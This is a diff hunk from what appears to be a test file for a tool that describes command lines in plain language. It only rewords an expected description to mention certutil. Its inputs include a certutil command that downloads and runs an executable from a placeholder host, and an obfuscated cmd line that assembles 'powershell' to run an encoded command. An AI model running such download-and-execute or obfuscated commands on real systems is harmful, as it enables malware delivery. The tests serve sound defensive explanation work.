@@ -233,7 +233,7 @@ test.each([
   ],
   [
     command('cmd /c certutil -urlcache -split -f http://a.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe'),
-    'runs cmd as SYSTEM, which downloads hxxp[:]//a[.]example/x.exe and runs "%TEMP%\\x.exe"',
+    'runs cmd as SYSTEM, which downloads hxxp[:]//a[.]example/x.exe with certutil and runs "%TEMP%\\x.exe"',
   ],
   [
     command(`cmd /v:on /c "set a=po&&set b=wershell&&!a!!b! -enc ${wide('calc.exe')}"`),
